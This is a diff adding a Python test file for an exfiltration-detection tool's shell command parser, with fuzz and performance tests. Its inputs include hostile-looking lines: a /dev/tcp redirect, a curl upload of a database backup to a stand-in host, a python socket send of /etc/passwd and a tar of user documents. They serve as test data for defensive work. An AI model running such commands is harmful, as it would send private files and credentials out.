@@ -1,0 +1,149 @@
+"""No text makes what undoes command lines raise, run long, or write much."""
+
+import time
+from collections.abc import Callable
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from exfilwatch.commands.addresses import host, url
+from exfilwatch.commands.command import LONGEST, Command, Undoing
+from exfilwatch.commands.letters import folded
+from exfilwatch.commands.paths import path
+from exfilwatch.commands.shells.argv import argv
+from exfilwatch.commands.shells.posix import commands
+
+PIECES = [
+    "curl", "-T", "x", "é", "x=", "x='a b'", "$x", "${x}", "${x:0:2}", "${x#a*}", "${x//a/b}", "${x:-", "${", "$(",
+    "$((", "`", "(", ")", "((", "))", "{", "}", "{a,b}", "{1..9}", ",", "'", "\"", "\\", "\\\n", "\n", ";", "&&",
+    "||", "|", "&", "|&", "<", "<<E", "\nE\n", "<<<", ">", "> >(", "< <(", "2>&1", ">&3", "exec 3<>/dev/tcp/h/1",
+    "$'", "\\x41", "$@", "$1", "$IFS", "if ", "then ", "fi", "do ", "done", "while ", "for x in a b", "case a in",
+    "esac", ";;", "[[", "]]", "[u]", "#", " ", "\t", "!", "function ", "f() ", "f", "alias a='b c'", "a=(", "${a[@]}",
+    "${!a}", "${#a}", "echo -e", "printf '%s\\n'", "base64 -d", "rev", "tr a b", "set -- ", "shift", "eval ",
+    "read a", "=", "~", "*", "0x7f", "1", "xxd -r -p", "IFS=,;", "unset x", "coproc ",
+]  # fmt: skip
+SCRIPTS = st.one_of(st.text(max_size=200), st.lists(st.sampled_from([*PIECES, " "]), max_size=40).map("".join))
+
+
+def posix(text: str) -> list[Command]:
+    return commands(text, Undoing())
+
+
+def windows_argv(text: str) -> list[str]:
+    return argv(text, windows=True)
+
+
+def posix_argv(text: str) -> list[str]:
+    return argv(text, windows=False)
+
+
+def letters(text: str) -> str:
+    return folded(text, Undoing())
+
+
+@settings(deadline=None, max_examples=300)
+@given(SCRIPTS)
+def test_any_script_is_split(script: str) -> None:
+    for command in posix(script):
+        assert command.words
+        assert len("".join(command.words)) <= 64 * (len(script) + 1000)
+
+
+@settings(deadline=None)
+@given(SCRIPTS, st.booleans())
+def test_any_line_is_an_argument_vector_that_is_no_longer_than_it(line: str, windows: bool) -> None:
+    assert len("".join(argv(line, windows))) <= len(line)
+
+
+@settings(deadline=None)
+@given(st.one_of(st.text(max_size=80), st.text("0123456789abcdefx.:[]%/@\\-_~?*", max_size=40)))
+def test_any_host_url_or_path_has_one_form(text: str) -> None:
+    assert host(host(text)) == host(text)
+    assert path(path(text).text).text == path(text).text
+    found = url(text, bare=True)
+    assert found is None or found.host or found.scheme == "file"
+
+
+@settings(deadline=None)
+@given(st.text(max_size=60))
+def test_letters_are_folded_once(text: str) -> None:
+    once = folded(text, Undoing())
+    assert folded(once, Undoing()) == once
+
+
+REPEATED = [
+    "$(", "`", "$((", "${x:-", "\"$(", "{a=(", "{", "{a,", "a{b,c}", "((", "[[ ", "(", ")a", "if ", "case x in ",
+    "f()", "a|", "a;", "a;;", "a>b ", "a<<E\n", "<(", ">(", "$x", "\"$x", "\\a", "'a'", "a=", "x=$x$x;", "x+=$x;",
+    "${x//a/bb}", "a=(b) ", "alias a=b;", "f(){ f $1;};f 1;", "{ a;", "}>b;", "coproc a;", "\\\n", "#", "a#",
+    "echo a|rev|rev|", "é", "$'\\x41'", "${x#*a*a*a*a}", "printf %999s|", "{1..99}{1..99}", "eval x=1;",
+    "set -- $@ a;", "<<a <<b ", "a\"b\"", "~", "/../", "\\\\",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("piece", REPEATED)
+@pytest.mark.parametrize(
+    "look",
+    [posix, windows_argv, posix_argv, host, url, path, letters],
+    ids=lambda look: look.__name__,
+)
+def test_time_grows_with_the_text_and_no_faster(look: Callable[[str], object], piece: str) -> None:
+    small = _seconds(look, _filled(piece, 8_000))
+    large = _seconds(look, _filled(piece, 64_000))
+    assert large < max(8 * 3 * small, 0.02)
+
+
+def _filled(piece: str, size: int) -> str:
+    return ("x=aaaaaaaa;" + piece * (size // len(piece) + 1))[:size]
+
+
+def _seconds(look: Callable[[str], object], text: str) -> float:
+    """Of the processor, the best of three: other work on the machine costs none of it."""
+    best = 1e9
+    for _ in range(3):
+        began = time.process_time()
+        look(text)
+        best = min(best, time.process_time() - began)
+    return best
+
+
+def _loop() -> float:
+    """What a plain loop costs here: 2,000 additions, about 50 microseconds on the machine that is meant."""
+    best = 1e9
+    for _ in range(50):
+        began = time.perf_counter()
+        total = 0
+        for number in range(2_000):
+            total += number
+        best = min(best, time.perf_counter() - began)
+    return best
+
+
+TYPICAL = {
+    "curl with headers": "curl -sS "
+    + " ".join(f"-H 'X-Field-{number}: some value'" for number in range(70))
+    + " --data-binary @/var/backups/db.sql.gz 'https://files.example.com/up?token="
+    + "a" * 2000,
+    "java": "java " + " ".join(f"-Dsome.name{number}=/opt/app/value{number}.jar" for number in range(120)),
+    "python": 'python3 -c "import socket\n' + "s.send(open('/etc/passwd', 'rb').read())\n" * 110,
+    "files": "tar czf /tmp/x.tgz " + " ".join(f"/home/user/documents/report-{number}.docx" for number in range(120)),
+}
+
+
+@pytest.mark.parametrize("line", TYPICAL.values(), ids=TYPICAL)
+def test_a_typical_line_of_4_kb_is_split_in_120_microseconds(line: str) -> None:
+    line = line[:4096]
+    assert len(line) > 3900
+    best = 1e9
+    for _ in range(100):
+        undoing = Undoing()
+        began = time.perf_counter()
+        commands(line, undoing)
+        best = min(best, time.perf_counter() - began)
+    assert best / _loop() < 120 / 50
+
+
+@pytest.mark.parametrize("piece", REPEATED)
+def test_no_script_takes_more_than_50_milliseconds(piece: str) -> None:
+    seconds = _seconds(posix, _filled(piece, LONGEST))
+    assert seconds / _loop() < 0.050 / 50e-6
